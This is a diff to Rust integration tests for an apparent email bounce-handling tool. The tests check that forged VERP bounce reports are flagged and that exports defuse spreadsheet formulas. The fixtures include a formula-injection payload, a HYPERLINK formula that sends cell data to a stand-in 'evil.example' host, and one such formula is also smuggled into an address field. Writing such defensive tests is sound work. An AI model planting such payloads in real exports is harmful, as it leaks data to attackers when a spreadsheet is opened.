@@ -238,8 +238,9 @@ fn query_bounces_and_stats_in_every_format() {
     );
     assert!(csv.status.success(), "{}", stderr(&csv));
     assert!(
-        stdout(&csv)
-            .starts_with("at,recipient,type,reason,status,replycode,rule,source,diagnostic\n"),
+        stdout(&csv).starts_with(
+            "at,recipient,type,reason,status,replycode,rule,source,verp_mismatch,diagnostic\n"
+        ),
         "{}",
         stdout(&csv)
     );
@@ -865,4 +866,134 @@ fn reclassify_dry_run_names_the_addresses_that_would_flip_and_writes_nothing() {
         stdout(&bounced(dir.path(), &["export"])),
         "full-0@example.net\nfull-1@example.net\nfull-2@example.net\n"
     );
+}
+
+/// A DSN sent back to the VERP address of `subscriber` (news-bounces+local=domain@...) about
+/// `about`.
+fn verp_dsn(subscriber: &str, about: &str, n: u32) -> String {
+    let (local, domain) = subscriber.split_once('@').unwrap();
+    dsn(n)
+        .replace(
+            "To: news-bounces@example.org",
+            &format!("To: news-bounces+{local}={domain}@lists.example.org"),
+        )
+        .replace(&format!("user-{n}@example.net"), about)
+}
+
+#[test]
+fn a_report_about_someone_else_than_the_verp_recipient_is_kept_flagged_and_never_suppresses() {
+    let dir = tempfile::tempdir().unwrap();
+    let inbox = dir.path().join("in");
+    std::fs::create_dir_all(&inbox).unwrap();
+    std::fs::write(
+        inbox.join("forged.eml"),
+        verp_dsn("alice@example.net", "ceo@victim.example", 1),
+    )
+    .unwrap();
+    std::fs::write(
+        inbox.join("real.eml"),
+        verp_dsn("bob@example.net", "Bob@Example.NET", 2),
+    )
+    .unwrap();
+    let out = bounced(dir.path(), &["import", "in"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(
+        stdout(&bounced(dir.path(), &["export"])),
+        "Bob@example.net\n",
+        "the report about bob, sent to bob's address, suppresses him; the forged one nobody"
+    );
+    let q = bounced(
+        dir.path(),
+        &[
+            "query",
+            "recipient",
+            "ceo@victim.example",
+            "--format",
+            "jsonl",
+        ],
+    );
+    let v = json(&q);
+    assert_eq!(v["recipient"]["state"], "active", "{v}");
+    assert_eq!(v["recipient"]["hard_count"], 0, "{v}");
+    assert_eq!(v["bounces"][0]["verp_mismatch"], true, "{v}");
+    assert_eq!(v["bounces"][0]["reason"], "userunknown", "{v}");
+    let csv = stdout(&bounced(
+        dir.path(),
+        &["query", "bounces", "--format", "csv"],
+    ));
+    assert!(csv.contains(",yes,"), "{csv}");
+    let s = json(&bounced(dir.path(), &["stats", "--format", "jsonl"]));
+    assert_eq!(s["verp_mismatches"], 1, "{s}");
+    assert_eq!(s["bounces"], 2, "{s}");
+    let table = stdout(&bounced(dir.path(), &["stats"]));
+    assert!(table.contains("verp_mismatch"), "{table}");
+    let (code, report) = db_check(dir.path(), "bounced.db");
+    assert_eq!(code, Some(0), "{report}");
+}
+
+#[test]
+fn exports_carry_no_spreadsheet_formula_and_a_formula_address_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let inbox = dir.path().join("in");
+    std::fs::create_dir_all(&inbox).unwrap();
+    let evil_diagnostic = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"see\")";
+    let with_diagnostic = |n: u32, rcpt: &str| {
+        dsn(n)
+            .replace(&format!("user-{n}@example.net"), rcpt)
+            .replace(
+                &format!("smtp; 550 5.1.1 <{rcpt}>: Recipient address rejected: User unknown"),
+                &format!("smtp; {evil_diagnostic}"),
+            )
+    };
+    std::fs::write(inbox.join("1.eml"), with_diagnostic(1, "+plus@example.net")).unwrap();
+    std::fs::write(
+        inbox.join("2.eml"),
+        with_diagnostic(2, "=HYPERLINK(\"http://evil.example/\")@example.net"),
+    )
+    .unwrap();
+    std::fs::write(inbox.join("3.eml"), with_diagnostic(3, "-dash@example.net")).unwrap();
+    let out = bounced(dir.path(), &["import", "in"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let out = bounced(dir.path(), &["suppress", "@at@example.net"]);
+    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
+
+    let txt = stdout(&bounced(dir.path(), &["export"]));
+    assert_eq!(
+        txt, "+plus@example.net\n-dash@example.net\n",
+        "the text that is not a mailbox is refused at recording"
+    );
+    let formula = |cell: &str| cell.trim_start().starts_with(['=', '+', '-', '@']);
+    for format in ["csv", "mailgun", "listmonk", "ses"] {
+        let out = bounced(dir.path(), &["export", "--format", format]);
+        assert!(out.status.success(), "{format}: {}", stderr(&out));
+        let mut rows = csv::ReaderBuilder::new()
+            .has_headers(format != "ses")
+            .from_reader(out.stdout.as_slice());
+        let mut seen = 0;
+        for record in rows.records() {
+            let record = record.unwrap();
+            for cell in record.iter() {
+                assert!(!formula(cell), "{format}: {cell:?} in {record:?}");
+            }
+            assert!(
+                record.iter().next().unwrap().starts_with("'"),
+                "{format}: {record:?}"
+            );
+            seen += 1;
+        }
+        assert_eq!(seen, 2, "{format}");
+    }
+    let csv = stdout(&bounced(dir.path(), &["export", "--format", "csv"]));
+    assert!(csv.contains("'=HYPERLINK("), "{csv}");
+    assert!(csv.starts_with("email,"), "{csv}");
+    let q = bounced(dir.path(), &["query", "bounces", "--format", "csv"]);
+    let mut rows = csv::Reader::from_reader(q.stdout.as_slice());
+    for record in rows.records() {
+        for cell in record.unwrap().iter() {
+            assert!(!formula(cell), "query: {cell:?}");
+        }
+    }
+    // Formats read by programs keep the exact address.
+    let jsonl = stdout(&bounced(dir.path(), &["export", "--format", "jsonl"]));
+    assert!(jsonl.contains("\"email\":\"+plus@example.net\""), "{jsonl}");
 }
